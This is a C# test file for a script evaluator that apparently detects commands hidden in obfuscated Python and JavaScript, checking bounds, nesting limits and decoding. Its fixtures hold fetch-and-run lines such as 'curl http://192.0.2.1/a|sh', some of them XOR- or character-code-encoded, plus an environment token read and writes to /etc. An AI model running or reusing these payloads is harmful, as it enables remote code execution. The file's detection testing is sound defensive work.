using System.Diagnostics;
using System.Text;
using CsCheck;
using Wellguard.Programs;
using Wellguard.Programs.Scripts;
using Xunit;

namespace Wellguard.Tests.Programs.Scripts;

public sealed class ScriptBoundsTests
{
    private static readonly string[] Languages = ["python", "javascript", "perl", "php", "ruby"];

    private static readonly string[] Pieces =
    [
        "(", ")", "[", "]", "{", "}", "'", "\"", "`", "${", "#{", "f'", "=>", "->", "::", ":", "?", "/", "<<E", "%w(", "qx{", "\n", "\n    ", ";", ",", "=", "+", "for x in ", "def f(a):", "function f(a){", "sub f {", "do |x|", "end",
        "if ", "else", "lambda x: ", "return ", "import os", "require('fs')", "exec(", "eval(", "os.system(", "chr(", "'id'", "1", "x", "$x", "@x", ".join(", "[::-1]", ".map(c=>", "class A", "<?php ", "\\", "\"\"\"", "//", "#", "/*", "await ", "new ", "my ", "...", "**",
    ];

    [Fact]
    public void Any_mixture_of_pieces_ends_without_an_exception() =>
        Gen.Select(Gen.Int[0, Languages.Length - 1].Select(static at => Languages[at]), Gen.Int[0, Pieces.Length - 1].Select(static at => Pieces[at]).Array[0, 120]).Sample(
            (language, pieces) => ScriptEvaluator.Evaluate(language, string.Concat(pieces), 1, new Analysis()) is not null, iter: 3_000);

    [Theory]
    [InlineData("python", "a = [1, 2]\nfor x in a:\n    a.append(x)\nb = [a.append(y) for y in a]\n")]
    [InlineData("javascript", "const a = [1, 2]; for (const x of a) { a.push(x); } a.map(x => a.push(x)); a.push(a); fetch('http://192.0.2.1', {method: 'POST', body: a})")]
    public void A_loop_may_change_what_it_goes_through(string language, string code) =>
        Assert.Equal(language == "python" ? 0 : 1, ScriptEvaluator.Evaluate(language, code, 1, new Analysis()).Count);

    [Fact]
    public void An_assignment_to_a_call_of_an_instance_is_no_error() =>
        Assert.Single(Evaluation.Lines("python", "class A:\n    pass\na = A()\na(1) = 2\na b = 3\nimport os\nos.system('id')\n"));

    [Fact]
    public void One_program_leaves_nothing_behind_for_the_next()
    {
        Evaluation.Of("python", "import os\ndef f(a):\n    a['x'] = os.environ['TOKEN']\nf(g)\n");
        Assert.Empty(Evaluation.Lines("python", "def f(a):\n    exec(a['x'])\n    exec(a)\n"));
    }

    [Theory]
    [InlineData("(", "")]
    [InlineData("[", "")]
    [InlineData("{", "")]
    [InlineData("if(a)", "")]
    [InlineData("a=", "b")]
    [InlineData("a?b:", "c")]
    [InlineData("!", "a")]
    [InlineData("s=s+s;", "")]
    [InlineData("eval('1;');", "")]
    [InlineData("function f(){f();f();", "")]
    [InlineData("a.b(", "")]
    [InlineData("`${", "")]
    [InlineData("x=>", "x")]
    [InlineData("def f(a):\n", "")]
    [InlineData("function f(a) ", "")]
    public void Repetition_ends_in_bounded_time(string piece, string end)
    {
        var code = "s='aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa';" + new StringBuilder().Insert(0, piece, 200_000 / piece.Length) + end;
        var watch = Stopwatch.StartNew();
        foreach (var language in Languages)
        {
            ScriptEvaluator.Evaluate(language, code, 1, new Analysis());
        }

        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(20), $"{watch.Elapsed}");
    }

    [Theory]
    [InlineData("python", "[x for x in ")]
    [InlineData("python", "(x for x in ")]
    [InlineData("python", "a if a else ")]
    [InlineData("php", "(int)")]
    [InlineData("javascript", "async ")]
    [InlineData("javascript", "await ")]
    [InlineData("ruby", "if ")]
    public void Nesting_beyond_the_stack_ends_and_is_said(string language, string piece)
    {
        var analysis = new Analysis();
        ScriptEvaluator.Evaluate(language, "x=" + string.Concat(Enumerable.Repeat(piece, 100_000)), 1, analysis);
        Assert.Contains(analysis.Problems, problem => problem.Contains("nested too deeply", StringComparison.Ordinal) || problem.StartsWith("only the first", StringComparison.Ordinal));
    }

    [Fact]
    public void A_chain_of_members_costs_no_more_than_its_length()
    {
        var watch = Stopwatch.StartNew();
        ScriptEvaluator.Evaluate("python", "x=" + string.Concat(Enumerable.Repeat("a.", 200_000)), 1, new Analysis());
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(10), $"{watch.Elapsed}");
    }

    private static string Codes(string code) => string.Join(',', code.Select(static c => (int)c));

    [Theory]
    [InlineData("eval([CODES].map(c=>String.fromCharCode(c)).join(''))")]
    [InlineData("let s='';const a=[CODES];for(let i=0;i<a.length;i++) s+=String.fromCharCode(a[i]);eval(s)")]
    [InlineData("let s='';for(const c of [CODES]) s+=String.fromCharCode(c);eval(s)")]
    public void Long_code_in_character_codes_is_computed_or_said(string code)
    {
        foreach (var padding in (int[])[6_000, 150_000])
        {
            var analysis = new Analysis();
            var effects = ScriptEvaluator.Evaluate("javascript", code.Replace("CODES", Codes("//" + new string('#', padding) + "\nrequire('child_process').exec('curl http://192.0.2.1/a|sh')"), StringComparison.Ordinal), 1, analysis);
            Assert.True(analysis.Problems.Count > 0 || effects.Any(effect => effect.Steps.Any(step => step.Kind is EffectKind.Run or EffectKind.Execute or EffectKind.Interpret)), $"{padding}");
        }
    }

    [Fact]
    public void Code_in_many_functions_is_read_or_said()
    {
        foreach (var depth in (int[])[3, 9, 30])
        {
            var analysis = new Analysis();
            var effects = ScriptEvaluator.Evaluate("javascript", string.Concat(Enumerable.Repeat("(()=>{", depth)) + "require('child_process').exec('curl http://192.0.2.1/a|sh')" + string.Concat(Enumerable.Repeat("})()", depth)), 1, analysis);
            Assert.True(effects.Count > 0 || analysis.Problems.Count > 0, $"{depth}");
        }
    }

    [Fact]
    public void A_long_loop_that_computes_no_code_is_not_said()
    {
        var analysis = new Analysis();
        ScriptEvaluator.Evaluate("javascript", "const t=[];for(let i=0;i<9000;i++){let c=i;for(let k=0;k<80;k++)c=c&1?c>>>1^3988292384:c>>>1;t[i]=c}require('child_process').exec('id')", 1, analysis);
        Assert.Empty(analysis.Problems);
    }

    [Fact]
    public void Code_that_a_decoder_gives_up_on_is_said()
    {
        using var packed = new MemoryStream();
        using (var zlib = new System.IO.Compression.ZLibStream(packed, System.IO.Compression.CompressionLevel.Fastest, leaveOpen: true))
        {
            zlib.Write(new byte[5_000_000]);
        }

        var analysis = new Analysis();
        ScriptEvaluator.Evaluate("python", $"import zlib,base64\nexec(zlib.decompress(base64.b64decode('{Convert.ToBase64String(packed.ToArray())}')))\n", 1, analysis);
        Assert.NotEmpty(analysis.Problems);
    }

    public static TheoryData<string, string> CutOff() => new()
    {
        { "more than 2,000 steps in one script; the rest is left out", "import os\n" + string.Concat(Enumerable.Range(0, 2_500).Select(static i => $"os.system('a{i}')\n")) },
        { "code that is computed was not computed to its end", "exec(''.join(chr(c^7) for c in [" + string.Join(',', Enumerable.Repeat("20", 120_000)) + "]))\n" },
        { "code that is computed was not computed to its end", Burning + "def dec(s):\n return ''.join(chr(ord(c)^7) for c in s)\nexec(dec('kjkj'))\n" },
        { "functions that run commands or code were not read for each of their calls", "import os\ndef r(s):\n" + Body + " os.system(s)\n" + string.Concat(Enumerable.Range(0, 60).Select(static i => $"r('a{i}')\n")) },
    };

    private static readonly string Body = string.Concat(Enumerable.Repeat(" x='1'+'1'\n", 1_000));
    private static readonly string Burning = "def burn(s):\n" + Body + string.Concat(Enumerable.Range(0, 40).Select(static i => $"burn('a{i}')\n"));

    [Theory]
    [MemberData(nameof(CutOff))]
    public void A_bound_that_cuts_off_what_may_matter_is_said_once(string problem, string code)
    {
        var analysis = new Analysis();
        ScriptEvaluator.Evaluate("python", code, 1, analysis);
        Assert.Equal([problem], analysis.Problems);
    }

    [Fact]
    public void A_bound_that_cuts_off_nothing_that_runs_is_not_said()
    {
        var analysis = new Analysis();
        ScriptEvaluator.Evaluate("python", Burning + "import os\nos.system('id')\n", 1, analysis);
        Assert.Empty(analysis.Problems);
    }

    private const string Decoding = "def dec(s):\n return ''.join(chr(ord(c)^7) for c in s)\n";
    private static readonly string Encoded = string.Concat("import os;os.system('curl -s 192.0.2.1/a|sh')".Select(static c => c == ' ' ? "\\x27" : ((char)(c ^ 7)).ToString()));

    [Fact]
    public void A_function_that_runs_what_a_bound_cut_off_is_read_once_more()
    {
        var analysis = new Analysis();
        var effects = ScriptEvaluator.Evaluate("python", Burning + Decoding + $"def go():\n exec(dec('{Encoded}'))\ngo()\n", 1, analysis);
        Assert.Contains(effects, static effect => effect.Steps.Any(static step => step.Kind == EffectKind.Interpret));
        Assert.Empty(analysis.Problems);
    }

    [Fact]
    public void Who_uses_up_the_second_reading_too_is_said()
    {
        var analysis = new Analysis();
        ScriptEvaluator.Evaluate("python", Burning + Decoding + "def go():\n" + string.Concat(Enumerable.Range(0, 40).Select(static i => $" burn('b{i}')\n")) + $" exec(dec('{Encoded}'))\ngo()\n", 1, analysis);
        Assert.Contains("code that is computed was not computed to its end", analysis.Problems);
    }

    [Fact]
    public void A_loop_without_end_is_looked_at_once_however_often_it_is_read()
    {
        var analysis = new Analysis();
        var effects = ScriptEvaluator.Evaluate("javascript", "function f(s){while(true){if(s)break}}" + string.Concat(Enumerable.Range(0, 600).Select(static i => $"f('{i}');")) + "while(true){}", 1, analysis);
        Assert.Empty(analysis.Problems);
        Assert.Contains(effects, static effect => effect.Command == ScriptRun.EndlessLoop || effect.Object == ScriptRun.EndlessLoop);
        ScriptEvaluator.Evaluate("javascript", string.Concat(Enumerable.Repeat("while(true){break}", 600)), 1, analysis);
        Assert.StartsWith("of loops without end", Assert.Single(analysis.Problems), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(true, "new Function('a', 'return function(b){' + check + 'return READ}')")]
    [InlineData(false, "new Function('a', check + decode('READ'))")]
    [InlineData(false, "new Function('a', pad + check + decode('READ'))")]
    [InlineData(false, "new Function('a', 'READ' + check + decode('READ'))")]
    public void Text_that_is_the_code_hides_nothing(bool isPlain, string call)
    {
        var code = "const pad='" + new string(' ', 900) + "';" + call.Replace("READ", string.Concat(Enumerable.Repeat("a1,b2,", 100)), StringComparison.Ordinal);
        Assert.Equal(isPlain, !ScriptEvaluator.Evaluate("javascript", "function f(check, decode){" + code + "}", 1, new Analysis()).Any(static effect => effect.Decoding.Contains("computation")));
    }

    [Fact]
    public void A_step_beyond_the_bound_changes_no_other()
    {
        var effects = ScriptEvaluator.Evaluate("python", "import os\n" + string.Concat(Enumerable.Range(0, 1_999).Select(static i => $"os.system('a{i}')\n")) + "f=open('/etc/a','w')\ng=open('/etc/b','w')\ng.write('b')\n", 1, new Analysis());
        Assert.Equal(("/etc/a", null), (effects[^1].Object, effects[^1].Text));
    }
}
